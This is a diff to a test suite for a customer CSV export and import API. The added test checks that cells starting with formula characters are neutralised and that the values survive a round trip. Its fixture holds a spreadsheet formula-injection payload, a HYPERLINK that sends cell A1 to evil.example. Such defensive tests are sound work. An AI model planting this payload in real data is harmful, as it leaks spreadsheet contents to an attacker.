@@ -59,13 +59,57 @@ describe('GET /customers/export', () => {
       full_name: 'Grace Hopper, "Amazing"',
       family_name: 'Hopper, "Amazing"',
       email: vip.primaryEmail,
-      phone: '+447911123456',
+      // Guarded against spreadsheets reading it as a formula (lib/csv.ts); imports take it off.
+      phone: "'+447911123456",
       tags: 'vip|navy',
       prefers_human_service: 'false',
       address_line1: '1 Main St',
       city: 'Arlington',
       country: 'US',
       created_at: '2025-06-18T12:00:00.000Z',
+    });
+  });
+
+  it('guards formula-like cells, and the export imports back into the same values', async () => {
+    const other = await createWorkspaceClient(t);
+    await createCustomerVia(other, {
+      givenName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      familyName: '@Risk',
+      emails: [{ value: 'formula@example.com' }],
+      phones: [{ value: '+44 20 7946 0958' }],
+    });
+    const res = await other.request('GET', '/api/v1/customers/export');
+    expect(res.statusCode, res.body).toBe(200);
+    const [row] = csvOf(res.body);
+    expect(row).toMatchObject({
+      given_name: `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
+      family_name: "'@Risk",
+      phone: "'+442079460958",
+    });
+    // No cell of the file starts with a formula character.
+    for (const cell of Object.values(row!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+
+    const fresh = await createWorkspaceClient(t);
+    const upload = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/imports/customers?fileName=export.csv',
+      headers: { 'content-type': 'text/csv', ...fresh.headers },
+      cookies: fresh.cookies,
+      payload: res.body,
+    });
+    expect(upload.statusCode, upload.body).toBe(202);
+    let run = upload.json() as { id: string; status: string };
+    for (let i = 0; i < 200 && run.status === 'running'; i++) {
+      await new Promise((r) => setTimeout(r, 25));
+      run = (await fresh.request('GET', `/api/v1/imports/${run.id}`)).json();
+    }
+    expect(run.status).toBe('completed');
+    const back = (await fresh.request('GET', '/api/v1/customers?q=formula%40example.com')).json().items;
+    expect(back).toHaveLength(1);
+    expect(back[0]).toMatchObject({
+      givenName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      familyName: '@Risk',
+      primaryPhone: '+442079460958',
     });
   });
 
